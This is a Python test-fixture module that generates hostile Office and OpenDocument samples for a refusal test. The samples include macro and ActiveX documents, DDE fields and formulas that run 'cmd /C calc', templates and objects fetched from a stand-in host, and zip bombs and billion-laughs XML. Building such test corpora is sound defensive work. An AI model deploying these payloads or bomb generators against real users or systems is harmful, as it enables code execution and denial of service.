"""Sixty documents that would run or fetch something, and thirty that swell; each has to be refused."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from functools import partial

from tests.hostile.corpus import base
from tests.hostile.corpus.base import MAIN, Sample, in_body, members, office, pack, related, replaced

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
COMMAND = "cmd|' /C calc'!A0"


def _more(kind: str, name: str, data: bytes = OLE) -> bytes:
    return pack({**members(office(kind)), name: data})


def macros() -> Iterator[Sample]:
    """Macros of three kinds, objects and controls."""
    one = partial(Sample, "macro")
    folder = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}
    for kind, top in folder.items():
        for name in ("vbaProject.bin", "VBAPROJECT.BIN"):
            yield one(f"{name} in {kind}", f"a.{kind}", partial(_more, kind, f"{top}/{name}"), ("macros",))
        yield one(
            f"{kind} with the type of macros",
            f"a.{kind}",
            partial(replaced, kind, "[Content_Types].xml", b".main+xml", b".macroEnabled.main+xml"),
            ("macros",),
        )
        for name in ("oleObject1.bin", "package.exe"):
            yield one(
                f"{name} in {kind}",
                f"a.{kind}",
                partial(_more, kind, f"{top}/embeddings/{name}"),
                ("embedded",),
            )
        yield one(
            f"control in {kind}",
            f"a.{kind}",
            partial(_more, kind, f"{top}/activeX/activeX1.bin"),
            ("active",),
        )
    yield one("a template with macros", "a.docx", partial(_more, "docx", "word/vbaData.xml"), ("macros",))
    yield one("a ribbon", "a.docx", partial(_more, "docx", "customUI/customUI.xml", b"<a/>"), ("active",))
    sheet = b"<xm:macrosheet/>"
    for name in (
        "xl/macrosheets/sheet1.xml",
        "xl/dialogsheets/sheet1.xml",
        "xl/MacroSheets/s.xml",
        "xl/intlMacrosheet.xml",
    ):
        yield one(f"XLM in {name}", "a.xlsx", partial(_more, "xlsx", name, sheet), ("macros",))
    for name in ("_xlnm.Auto_Open", "Auto_Open", "auto_close"):
        named = f'<definedNames><definedName name="{name}">Sheet!$A$1</definedName></definedNames></workbook>'
        make = partial(replaced, "xlsx", "xl/workbook.xml", b"</workbook>", named.encode())
        yield one(f"{name}", "a.xlsx", make, ("macros",))


def _field(words: str, split: int = 0) -> str:
    parts = [words[at : at + split] for at in range(0, len(words), split)] if split else [words]
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in parts)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{step}"/></w:r>' for step in ("begin", "end"))
    return f"<w:p>{begin}{runs}{end}</w:p>"


def exchanges() -> Iterator[Sample]:
    """Dynamic data exchange, formulas that run or fetch."""
    one = partial(Sample, "macro", codes=("dde",))
    words = f"DDEAUTO {COMMAND.replace(chr(39), '&apos;')}"
    fields = {
        "DDEAUTO": _field(words),
        "DDE": _field("DDE c:\\\\x a"),
        "in pieces": _field(words, 2),
        "in lower case": _field(" ddeauto c:\\\\x"),
        "simple": f'<w:p><w:fldSimple w:instr="{words}"/></w:p>',
        "spelt in figures": _field("QUOTE 68 68 69 65"),
        "IMPORT": _field("IMPORT \\\\\\\\host\\\\a.gif"),
        "INCLUDEPICTURE": _field('INCLUDEPICTURE "http://192.0.2.1/a.png"'),
        "INCLUDETEXT": _field('INCLUDETEXT "http://192.0.2.1/a.docx"'),
        "LINK": _field("LINK Excel.Sheet c:\\\\a"),
    }
    for what, text in fields.items():
        yield one(f"field {what}", "a.docx", partial(in_body, text))
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    for link in ('<ddeLink ddeService="cmd" ddeTopic="/C calc"/>', "<oleLink/>", "<x:ddeLink/>"):
        data = f"<externalLink {ns}>{link}</externalLink>".encode()
        yield one(link, "a.xlsx", partial(_more, "xlsx", "xl/externalLinks/externalLink1.xml", data))
    for formula in (
        COMMAND,
        "'cmd'|'/C calc'!A0",
        "1+cmd|'/C calc'!A0",
        "WEBSERVICE(A1)",
        "RTD(1)",
        "CALL(1)",
    ):
        data = (
            f"<worksheet {ns}><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>".encode()
        )
        yield one(formula, "a.xlsx", partial(_more, "xlsx", "xl/worksheets/sheet9.xml", data))


def remote() -> Iterator[Sample]:
    """Templates, pictures and objects that are fetched from elsewhere; scripts of OpenDocument."""
    one = partial(Sample, "macro")
    for target in ("http://192.0.2.1/a.dotm", "https://example.org/a.dotm", "\\\\192.0.2.1\\a.dotm"):
        yield one(
            f"template {target}",
            "a.docx",
            partial(related, "docx", "attachedTemplate", target),
            ("template",),
        )
    for target in ("file://192.0.2.1/a.dotm", "//192.0.2.1/a.dotm", "mhtml:http://192.0.2.1/a!b"):
        yield one(
            f"template {target}",
            "a.docx",
            partial(related, "docx", "attachedTemplate", target),
            ("template",),
        )
    for kind, type_ in (("docx", "oleObject"), ("docx", "frame"), ("pptx", "image"), ("docx", "aFChunk")):
        make = partial(related, kind, type_, "http://192.0.2.1/a")
        yield one(f"{type_} of {kind}", f"a.{kind}", make, ("linked",))
    yield one(
        "pages",
        "a.docx",
        partial(_more, "docx", "word/afchunk.mht", b"MIME-Version: 1.0"),
        ("active", "inside"),
    )
    task = partial(_more, "docx", "word/webextensions/taskpanes.xml", b"<a/>")
    yield one("an add-in from the web", "a.docx", task, ("active",))
    slide = b'<a:hlinkClick r:id="" action="ppaction://program"/></p:sldMasterIdLst>'
    run = partial(replaced, "pptx", "ppt/presentation.xml", b"</p:sldMasterIdLst>", slide)
    yield one("a click that starts a program", "a.pptx", run, ("dde",))
    yield one("Basic", "a.odt", partial(_more, "odt", "Basic/Standard/Module1.xml", b"<a/>"), ("macros",))


def acting() -> Iterator[Sample]:
    """All sixty."""
    yield from macros()
    yield from exchanges()
    yield from remote()


def _laughs(kind: str) -> bytes:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    bomb = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "lol">{lines}]><a>&l8;</a>'.encode()
    return pack({**members(office(kind)), MAIN[kind]: bomb})


def _flat(kind: str, megabytes: int, filler: bytes = b"\0") -> bytes:
    return pack(
        {**members(office(kind)), MAIN[kind].replace(".xml", "2.xml"): filler * (megabytes * 1024 * 1024)}
    )


def _nested(kind: str, depth: int) -> bytes:
    inner = pack({"zeros": bytes(3_000_000)})
    for _level in range(depth):
        inner = pack({f"{number}.zip": inner for number in range(3)})
    return _more(
        kind, f"{MAIN[kind].rpartition('/')[0] or '.'}/embeddings/inner.zip".removeprefix("./"), inner
    )


def _dolls(kind: str) -> bytes:
    inner = office("xlsx")
    for _level in range(3):
        inner = pack({**members(office(kind)), "word/embeddings/a.xlsx": inner})
    return inner


def _many(count: int, says: int = 0) -> bytes:
    made = pack({**members(office("docx")), **{f"word/{number}.xml": b"" for number in range(count)}})
    return base.moved_end(made, count=says) if says else made


def _overlapping(shared: int) -> bytes:
    """Members whose headers point to the same bytes, so that a small file unpacks to a large one."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members(office("docx")).items():
            archive.writestr(zipfile.ZipInfo(name), data)
        for number in range(shared):
            archive.writestr(zipfile.ZipInfo(f"word/a{number}.xml"), b"x" * 200)
            archive.filelist[-1].header_offset = archive.filelist[3].header_offset
    return out.getvalue()


def _quoted(count: int) -> bytes:
    """Each member's stored bytes quote the headers and the bytes of all that follow (after Fifield, 2019)."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = kernel.compress(bytes(500_000)) + kernel.flush()
    names = ["[Content_Types].xml", *(f"word/{number:03d}.xml" for number in range(count))]
    blob, rows = body, []
    for number, name in enumerate(reversed(names)):
        length = (len(blob) - len(body)) & 0xFFFF
        data = (struct.pack("<BHH", 0, length, 0xFFFF ^ length) if number else b"") + blob
        sizes = (len(data), 500_000, len(name))
        blob = (
            struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 33, 0, *sizes, 0) + name.encode() + data
        )
        rows.append((name, sizes, len(blob)))
    head, end = (b"PK\x01\x02", 20, 20, 0, 8, 0, 33, 0), b""
    for name, sizes, back in reversed(rows):
        end += (
            struct.pack("<4sHHHHHHIIIHHHHHII", *head, *sizes, 0, 0, 0, 0, 0, len(blob) - back) + name.encode()
        )
    last = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(rows), len(rows), len(end), len(blob), 0)
    return blob + end + last


def bombs() -> Iterator[Sample]:
    """Thirty archives that swell when opened: flat, nested, of many members, overlapping, of entities."""
    one = partial(Sample, "bomb")
    for kind in ("docx", "xlsx", "odt"):
        for megabytes in (8, 24):
            yield one(
                f"flat {kind} of {megabytes} MB", f"a.{kind}", partial(_flat, kind, megabytes), ("unsafe",)
            )
    for kind in ("docx", "xlsx", "pptx"):
        yield one(f"nested {kind}", f"a.{kind}", partial(_nested, kind, 2), ("embedded",))
    yield one("nested odt", "a.odt", partial(_nested, "odt", 2), ("inside", "embedded"))
    for kind in ("docx", "xlsx"):
        yield one(f"dolls of {kind}", f"a.{kind}", partial(_dolls, kind), ("embedded",))
    for count, says in ((4_500, 0), (9_000, 0), (6_000, 12), (4_200, 1), (5_000, 0), (5_500, 3)):
        yield one(
            f"{count} members, {says} said",
            "a.docx",
            partial(_many, count, says),
            ("unsafe", "damaged", "two_types"),
        )
    for shared in (1, 20, 300):
        yield one(f"{shared} overlap", "a.docx", partial(_overlapping, shared), ("unsafe", "damaged"))
    for count in (3, 40, 90):
        yield one(f"{count} quoted", "a.docx", partial(_quoted, count), ("unsafe", "damaged", "heavy"))
    for kind in ("docx", "xlsx", "pptx", "odt"):
        yield one(f"entities in {kind}", f"a.{kind}", partial(_laughs, kind), ("unsafe",))
    for kind in ("docx", "pptx"):
        data = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16")
        make = partial(_more, kind, f"{MAIN[kind].rpartition('/')[0]}/more.xml", data)
        yield one(f"entities in UTF-16 in {kind}", f"a.{kind}", make, ("unsafe",))
